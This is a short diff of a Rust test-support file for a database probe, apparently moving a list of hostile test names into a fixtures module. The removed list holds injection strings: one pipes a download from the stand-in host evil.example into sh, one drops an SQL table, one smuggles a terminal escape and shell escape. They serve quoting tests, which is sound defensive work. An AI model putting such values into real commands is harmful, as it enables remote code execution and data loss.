@@ -14,15 +14,10 @@ use crate::{
     observe::{DatabaseProbe, Observation, ProbeFailure, ProbeFailureKind},
 };
 
+pub(crate) use crate::fixtures::HOSTILE;
+
 /// What psycopg raises where no connection was made.
 pub(crate) const OPERATIONAL: &str = "psycopg2.OperationalError";
-
-/// Names that would do harm in a command if they were not quoted.
-pub(crate) const HOSTILE: [&str; 3] = [
-    "x;curl evil.example|sh",
-    "x\"; DROP TABLE t; --",
-    "x\u{1b}]0;pwn\u{7}\n\\! sh",
-];
 
 /// What a command has of a hostile host: a message ends its name at the first quotation mark.
 pub(crate) fn host_of(name: &str) -> &'static str {
